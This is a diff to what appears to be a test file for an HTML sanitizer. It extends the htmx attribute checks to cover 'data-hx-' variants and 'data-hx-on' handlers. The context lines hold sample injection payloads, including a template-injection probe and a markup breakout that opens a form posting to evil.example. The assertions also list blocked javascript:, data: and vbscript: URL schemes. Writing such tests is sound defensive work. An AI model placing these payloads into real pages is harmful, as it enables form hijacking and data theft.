@@ -166,8 +166,9 @@ PAYLOADS = (
     "{{7*7}}{% debug %}",
     "</textarea></select></form><form action=//evil.example>",
 )
-HTMX = ("hx-get", "hx-post", "hx-vals", "hx-headers")
-URLS = ("href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href", *HTMX)
+HTMX = ("get", "post", "vals", "headers")
+URLS = ("href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href")
+URLS += tuple(f"{prefix}hx-{name}" for name in HTMX for prefix in ("", "data-"))
 ACTIVE = ("script", "iframe", "object", "embed", "svg", "form", "base", "link", "meta", "style")
 
 
@@ -177,7 +178,9 @@ def active_elements(html):
     found = set()
     for tag in BeautifulSoup(html, "html.parser").find_all(True):
         for name, value in tag.attrs.items():
-            assert not name.lower().startswith(("on", "hx-on", "style", "srcdoc")), tag
+            assert not name.lower().startswith(("on", "hx-on", "data-hx-on", "style", "srcdoc")), (
+                tag
+            )
             if name.lower() in URLS:
                 start = str(value).strip().lower().partition("?")[0]
                 assert not start.startswith(("javascript:", "data:", "vbscript:")), tag
